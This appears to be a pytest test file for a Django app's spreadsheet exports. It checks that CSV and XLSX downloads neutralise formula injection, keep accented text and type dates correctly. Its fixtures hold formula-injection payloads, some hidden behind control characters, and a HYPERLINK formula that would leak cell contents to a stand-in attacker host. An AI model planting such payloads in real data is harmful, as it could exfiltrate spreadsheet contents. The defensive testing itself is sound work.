"""Every spreadsheet download: no text a user typed ever runs as a formula,
CSV opens in Excel with its accents, and XLSX keeps dates and numbers."""

import csv
import datetime
import io
import re
import zipfile
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.roles import Role
from consultations.exports import FIXED_COLUMNS
from consultations.models import Response
from reviews import services as review_services
from reviews.models import OffenceCategory, Region
from sfoqa import exports
from tests.consultations.factories import (
    ConsultationFactory,
    QuestionFactory,
    ResponseFactory,
)
from tests.factories import AuditEventFactory
from tests.reviews.factories import ReviewFactory

pytestmark = pytest.mark.django_db

FORMULAS = ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", " =1"]
HIDERS = ["\x00", "\x01", "\u202e"]
PAYLOADS = FORMULAS + [hider + formula for hider in HIDERS for formula in FORMULAS]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
NON_ASCII = "Siân O\u2019Brien — Zoë Łukasz, 中文, العربية, ✓ £5"


def stored_payloads() -> list[str]:
    """The payloads the database can hold: PostgreSQL refuses NUL in text."""
    if connection.vendor != "postgresql":
        return PAYLOADS
    return [payload for payload in PAYLOADS if "\x00" not in payload]


def _typed(payload: str) -> str:
    """The payload as an export keeps it: without the control characters."""
    return re.sub(r"[\x00-\x08]", "", payload)


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return "".join(
            package.read(name).decode()
            for name in package.namelist()
            if name.startswith("xl/worksheets/")
        )


def xlsx_sheet(content: bytes):
    # No formula element anywhere in any sheet, whatever openpyxl makes of it.
    assert not re.search(r"<f[ >]", _sheet_xml(content))
    sheet = load_workbook(io.BytesIO(content)).active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    return sheet


def assert_csv_safe(cell: str, payload: str):
    assert cell == "'" + _typed(payload)


def assert_xlsx_text(cell, payload: str):
    """A typed string, shown as typed (no apostrophe), kept text if edited."""
    assert cell.data_type == "s"
    assert cell.value == _typed(payload)
    assert cell.quotePrefix


# Consultation responses: the public can write anything into them.


@pytest.fixture
def closed_consultation():
    now = timezone.now()
    return ConsultationFactory(
        opens_at=now - datetime.timedelta(days=30),
        closes_at=now - datetime.timedelta(days=1),
    )


@pytest.fixture
def hostile_responses(closed_consultation):
    question = QuestionFactory(consultation=closed_consultation, text="=1+1")
    for number, payload in enumerate(stored_payloads()):
        ResponseFactory(
            consultation=closed_consultation,
            reference=f"HMIP-X{number:07d}",
            name=payload,
            organisation=payload,
            text=payload,
            answers={str(question.pk): [payload, "Police"]},
        )
    return closed_consultation


def _export_url(consultation, file_format):
    name = f"consultations:response_export_{file_format}"
    return reverse(name, kwargs={"pk": consultation.pk})


def _by_reference(rows):
    return {row[0]: row for row in rows}


# The consultation export's columns, by name: the first answer follows them.
NAME = FIXED_COLUMNS.index("Name")
ORGANISATION = FIXED_COLUMNS.index("Organisation")
TEXT = FIXED_COLUMNS.index("Response text")
ANSWER = len(FIXED_COLUMNS)


def test_consultation_csv_export_prefixes_every_formula(
    lead_inspector_client, hostile_responses
):
    rows = csv_rows(lead_inspector_client.get(_export_url(hostile_responses, "csv")))
    assert rows[0][-1] == "'=1+1"
    by_reference = _by_reference(rows[1:])
    for number, payload in enumerate(stored_payloads()):
        row = by_reference[f"HMIP-X{number:07d}"]
        for cell in [row[NAME], row[ORGANISATION], row[TEXT]]:
            assert_csv_safe(cell, payload)
        assert row[ANSWER] == "'" + _typed(payload) + "; Police"


def test_consultation_xlsx_export_holds_every_payload_as_text(
    lead_inspector_client, hostile_responses
):
    response = lead_inspector_client.get(_export_url(hostile_responses, "xlsx"))
    assert response.status_code == 200
    sheet = xlsx_sheet(response.content)
    rows = list(sheet.iter_rows())
    assert_xlsx_text(rows[0][-1], "=1+1")
    by_reference = {row[0].value: row for row in rows[1:]}
    for number, payload in enumerate(stored_payloads()):
        row = by_reference[f"HMIP-X{number:07d}"]
        for cell in [row[NAME], row[ORGANISATION], row[TEXT]]:
            assert_xlsx_text(cell, payload)
        assert row[ANSWER].data_type == "s"


def test_an_anonymous_respondents_hidden_hyperlink_stays_text(
    client, lead_inspector_client, closed_consultation
):
    """A control character in front of a formula used to get it past the check."""
    consultation = closed_consultation
    consultation.closes_at = timezone.now() + datetime.timedelta(days=1)
    consultation.save()
    question = QuestionFactory(consultation=consultation)
    respond = reverse("consultations:respond", kwargs={"slug": consultation.slug})
    client.post(
        respond,
        {
            question.field_name: "\x01" + HYPERLINK,
            "name": "\x01" + HYPERLINK,
            "organisation": "",
            "email": "",
            "website": "",
        },
    )
    sent = client.post(
        reverse("consultations:respond_check", kwargs={"slug": consultation.slug})
    )
    assert sent.status_code == 302
    assert Response.objects.get().name == "\x01" + HYPERLINK

    xlsx = lead_inspector_client.get(_export_url(consultation, "xlsx"))
    row = list(xlsx_sheet(xlsx.content).iter_rows())[1]
    assert_xlsx_text(row[NAME], HYPERLINK)
    assert_xlsx_text(row[-1], HYPERLINK)
    rows = csv_rows(lead_inspector_client.get(_export_url(consultation, "csv")))
    assert rows[1][NAME] == rows[1][-1] == "'" + HYPERLINK


def test_consultation_xlsx_shows_a_minus_sum_without_its_apostrophe(
    lead_inspector_client, closed_consultation
):
    ResponseFactory(consultation=closed_consultation, organisation="-2+3")
    response = lead_inspector_client.get(_export_url(closed_consultation, "xlsx"))
    cell = list(xlsx_sheet(response.content).iter_rows())[1][ORGANISATION]
    assert cell.value == "-2+3"
    assert cell.data_type == "s"


def test_consultation_exports_keep_non_ascii_text(
    lead_inspector_client, closed_consultation
):
    ResponseFactory(consultation=closed_consultation, name=NON_ASCII)
    rows = csv_rows(lead_inspector_client.get(_export_url(closed_consultation, "csv")))
    assert rows[1][NAME] == NON_ASCII
    xlsx = lead_inspector_client.get(_export_url(closed_consultation, "xlsx"))
    assert list(xlsx_sheet(xlsx.content).iter_rows())[1][NAME].value == NON_ASCII


def test_consultation_xlsx_gives_received_as_a_real_uk_date_and_time(
    lead_inspector_client, closed_consultation
):
    summer = datetime.datetime(2025, 7, 1, 8, 30, 15, tzinfo=datetime.UTC)
    ResponseFactory(consultation=closed_consultation, received_at=summer)
    xlsx = lead_inspector_client.get(_export_url(closed_consultation, "xlsx"))
    cell = list(xlsx_sheet(xlsx.content).iter_rows())[1][1]
    assert cell.is_date
    assert cell.value == datetime.datetime(2025, 7, 1, 9, 30, 15)
    rows = csv_rows(lead_inspector_client.get(_export_url(closed_consultation, "csv")))
    assert rows[1][1] == "2025-07-01 09:30:15"


def test_consultation_downloads_are_named_attachments(
    lead_inspector_client, closed_consultation
):
    for file_format in ("csv", "xlsx"):
        header = lead_inspector_client.get(
            _export_url(closed_consultation, file_format)
        )["Content-Disposition"]
        assert re.fullmatch(
            rf'attachment; filename="responses-{closed_consultation.slug}-'
            rf'\d{{4}}-\d{{2}}-\d{{2}}\.{file_format}"',
            header,
        )


# Staff exports: what reaches them may still have come from outside.


def test_audit_log_csv_prefixes_every_formula(admin_client, users):
    for payload in stored_payloads():
        AuditEventFactory(actor=users[Role.INSPECTOR], object_id=payload)
    rows = csv_rows(admin_client.get(reverse("accounts:audit_export")))
    assert rows[0][0] == "When (UTC)"
    cells = sorted(row[5] for row in rows[1:] if row[5].startswith("'"))
    assert cells == sorted("'" + _typed(payload) for payload in stored_payloads())


def test_audit_log_csv_gives_times_in_utc(admin_client, users):
    at = datetime.datetime(2025, 7, 1, 9, 30, 15, tzinfo=ZoneInfo("Europe/London"))
    AuditEventFactory(actor=users[Role.INSPECTOR], at=at, object_id="dated")
    rows = csv_rows(admin_client.get(reverse("accounts:audit_export")))
    assert [row[0] for row in rows if row[5] == "dated"] == ["2025-07-01 08:30:15"]


def test_review_list_csv_prefixes_every_formula(lead_inspector_client, reference_data):
    for payload in stored_payloads():
        ReviewFactory(hmpps_reference=payload)
    rows = csv_rows(lead_inspector_client.get(reverse("reviews:export")))
    assert rows[0][0] == "HMPPS reference"
    cells = sorted(row[0] for row in rows[1:])
    assert cells == sorted("'" + _typed(payload) for payload in stored_payloads())


def test_review_list_csv_keeps_dates_and_numbers_plain(
    lead_inspector_client, reference_data
):
    ReviewFactory(
        hmpps_reference="SFO-1",
        received_on=datetime.date(2024, 9, 2),
        target_date=datetime.date(2024, 9, 10),
        submitted_date=datetime.date(2024, 9, 20),
    )
    (row,) = csv_rows(lead_inspector_client.get(reverse("reviews:export")))[1:]
    assert row[6:] == ["2024-09-02", "2024-09-20", "2024-09-10", "2024-09-10", "10"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sample_round_csv_prefixes_reference_data_formulas(
    lead_inspector_client, users, payload
):
    if payload not in stored_payloads():
        pytest.skip("PostgreSQL cannot store a NUL character")
    region = Region.objects.order_by("position").first()
    region.name = payload
    region.save()
    offence = OffenceCategory.objects.order_by("position").first()
    ReviewFactory(
        region=region, offence_category=offence, received_on=datetime.date(2024, 6, 1)
    )
    sample_round = review_services.sample_round_draw(
        by=users[Role.LEAD_INSPECTOR],
        period_start=datetime.date(2024, 4, 1),
        period_end=datetime.date(2025, 3, 31),
        seed=1,
    )
    url = reverse("reviews:sample_round_export", kwargs={"pk": sample_round.pk})
    rows = csv_rows(lead_inspector_client.get(url))
    (row,) = rows[1:]
    assert_csv_safe(row[0], payload)
    assert row[1] == offence.name
    assert row[2] == "1"


def test_bulk_template_opens_with_every_column(hmpps_client):
    from reviews.bulk import COLUMNS

    rows = csv_rows(hmpps_client.get(reverse("reviews:bulk_template")))
    assert rows == [list(COLUMNS)]


def test_every_csv_export_starts_with_a_byte_order_mark(
    admin_client, lead_inspector_client, hmpps_client, closed_consultation, users
):
    ReviewFactory(received_on=datetime.date(2024, 6, 1))
    sample_round = review_services.sample_round_draw(
        by=users[Role.LEAD_INSPECTOR],
        period_start=datetime.date(2024, 4, 1),
        period_end=datetime.date(2025, 3, 31),
        seed=1,
    )
    downloads = [
        admin_client.get(reverse("accounts:audit_export")),
        lead_inspector_client.get(reverse("reviews:export")),
        lead_inspector_client.get(
            reverse("reviews:sample_round_export", kwargs={"pk": sample_round.pk})
        ),
        hmpps_client.get(reverse("reviews:bulk_template")),
        lead_inspector_client.get(_export_url(closed_consultation, "csv")),
    ]
    for download in downloads:
        assert download.status_code == 200
        assert download.content.startswith(b"\xef\xbb\xbf")
        assert download["Content-Disposition"].startswith('attachment; filename="')


# The helper itself, for exports to come.


def test_the_helper_makes_every_payload_safe_in_both_formats():
    table = exports.Table(["Text"], [[payload] for payload in PAYLOADS])
    content = exports.csv_bytes(table)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))[1:]
    for (cell,), payload in zip(rows, PAYLOADS, strict=True):
        assert_csv_safe(cell, payload)
    buffer = io.BytesIO()
    exports.write_xlsx(buffer, {"Text": table})
    cells = [row[0] for row in xlsx_sheet(buffer.getvalue()).iter_rows(min_row=2)]
    for cell, payload in zip(cells, PAYLOADS, strict=True):
        assert_xlsx_text(cell, payload)


def test_csv_round_trips_non_ascii_text_with_a_byte_order_mark():
    content = exports.csv_bytes(exports.Table(["Name"], [[NON_ASCII]]))
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["Name"], [NON_ASCII]]


def test_csv_leaves_numbers_alone_but_prefixes_text_that_looks_like_one():
    content = exports.csv_bytes(
        exports.Table(["a", "b", "c"], [[-1, "-1", "\u200b=1"]])
    )
    row = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))[1]
    assert row == ["-1", "'-1", "'\u200b=1"]


def test_write_xlsx_writes_one_typed_sheet_per_table(tmp_path):
    path = tmp_path / "pack.xlsx"
    today = datetime.date(2025, 3, 31)
    exports.write_xlsx(
        path,
        {
            "Reviews": exports.Table(
                ["Reference", "Received", "Days late"], [["=1", today, 3]]
            ),
            "Themes/2025": exports.Table(
                ["Theme", "Count", "Share"], [["#N/A", 4, 0.25]]
            ),
        },
    )
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["Reviews", "Themes 2025"]
    reference, received, late = workbook["Reviews"][2]
    assert (reference.value, reference.data_type) == ("=1", "s")
    assert received.is_date and received.value.date() == today
    assert (late.value, late.data_type) == (3, "n")
    theme, count, share = workbook["Themes 2025"][2]
    assert (theme.value, theme.data_type) == ("#N/A", "s")
    assert (count.value, share.value) == (4, 0.25)
    assert not re.search(r"<f[ >]", _sheet_xml(path.read_bytes()))


def test_write_xlsx_cuts_text_past_excels_cell_limit_and_says_so():
    buffer = io.BytesIO()
    exports.write_xlsx(
        buffer, {"Responses": exports.Table(["Response"], [["x" * 50_000]])}
    )
    value = load_workbook(buffer).active["A2"].value
    assert len(value) == 32_767
    assert value.endswith("the full text is in the CSV]")
